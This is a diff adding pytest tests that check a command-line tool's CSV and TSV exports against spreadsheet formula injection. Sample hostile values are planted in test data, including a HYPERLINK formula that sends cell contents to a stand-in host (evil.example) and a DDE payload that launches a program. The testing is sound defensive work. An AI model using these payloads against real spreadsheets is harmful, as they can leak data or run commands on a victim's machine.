@@ -331,3 +331,105 @@ def test_real_igfgraph_all_interrupted_after_seeded_delays(tmp_path, rendered, s
         assert state(target) in (old, new), f"{sig!r} after {delay:.2f} s: a mix"
     subprocess.run(command, env=env, check=True, capture_output=True)
     assert state(target) == new and leftovers(target) == []
+
+
+# --- formula injection ---------------------------------------------------------------
+
+#: names a spreadsheet would run as formulas (the issue's examples)
+HOSTILE = {
+    "acronym": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "dc-b": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "dc-c": "+1",
+    "pn-x": "-cmd",
+    "theme": "=Security",
+    "recommendation": "\tTab-led title",
+}
+
+
+@pytest.fixture(scope="module")
+def hostile_package(tmp_path_factory) -> Path:
+    """The mini package with formula-like body names, theme label and recommendation title."""
+    folder = make_package(tmp_path_factory.mktemp("hostile"))
+
+    def names(rows):
+        for row in rows:
+            row["name"] = HOSTILE.get(row["id"], row["name"])
+        return rows
+
+    def acronym(rows):
+        for row in rows:
+            if (row["body_id"], row["type"]) == ("dc-a", "acronym"):
+                row["value"] = HOSTILE["acronym"]
+        return rows
+
+    def label(rows):
+        for row in rows:
+            if row["id"] == "security":
+                row["label"] = HOSTILE["theme"]
+        return rows
+
+    def title(rows):
+        rows[0]["title"] = HOSTILE["recommendation"]
+        return rows
+
+    edit(folder, "bodies", names)
+    edit(folder, "body_names", acronym)
+    edit(folder, "themes", label)
+    edit(folder, "recommendations", title)
+    return folder
+
+
+def _assert_neutral(text: str, where: str, sep: str = ",") -> set[str]:
+    """Check that no cell of a CSV text starts like a formula, save numbers; return cells."""
+    import csv as csvmod
+    import io
+
+    cells = set()
+    for row in csvmod.reader(io.StringIO(text), delimiter=sep):
+        for cell in row:
+            cells.add(cell)
+            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
+                float(cell)  # only a number may start so (a negative score, say)
+    assert cells, where
+    return cells
+
+
+def test_formula_names_are_neutralised_in_every_csv_output(hostile_package, tmp_path):
+    out = tmp_path / "out"
+    result = CliRunner().invoke(cli, ["all", "--data", str(hostile_package), "--out", str(out)])
+    assert result.exit_code == 0, result.output
+    seen = set()
+    csvs = sorted(out.glob("*.csv"))
+    assert [p.name for p in csvs] == [
+        "centrality.csv", "communities.csv", "coverage.csv", "gaps.csv", "overlap.csv",
+        "recommendations.csv",
+    ]  # fmt: skip
+    for path in csvs:
+        seen |= _assert_neutral(path.read_text(encoding="utf-8"), path.name)
+    for args, sep in [
+        (("overlap", "--format", "csv"), ","),
+        (("gaps", "--format", "csv"), ","),
+        (("recommendations", "--format", "csv"), ","),
+        (("centrality", "--format", "csv"), ","),
+        (("communities", "--format", "csv"), ","),
+        (("coverage", "--format", "csv"), ","),
+        (("stats", "--format", "csv"), ","),
+        (("query", "SELECT ?n WHERE { ?b skos:prefLabel ?n } ORDER BY ?n", "--format", "csv"), ","),
+        (
+            ("query", "SELECT ?n WHERE { ?b skos:prefLabel ?n } ORDER BY ?n", "--format", "tsv"),
+            "\t",
+        ),
+    ]:
+        printed = CliRunner().invoke(cli, [*args, "--data", str(hostile_package)])
+        assert printed.exit_code == 0, printed.output
+        seen |= _assert_neutral(printed.stdout, " ".join(args[:3]), sep)
+    # every hostile name reached some CSV output, neutralised by one leading quote
+    for value in HOSTILE.values():
+        assert "'" + value in seen, value
+    # numbers stay numbers: a negative number in a query result is not quoted
+    negative = CliRunner().invoke(
+        cli,
+        ["query", "SELECT ?x ?s WHERE { VALUES (?x ?s) { (-5 '-5') (-0.25 '=1') } }",
+         "--data", str(hostile_package), "--format", "csv"],
+    )  # fmt: skip
+    assert negative.stdout.splitlines() == ["x,s", "-5,'-5", "-0.25,'=1"]
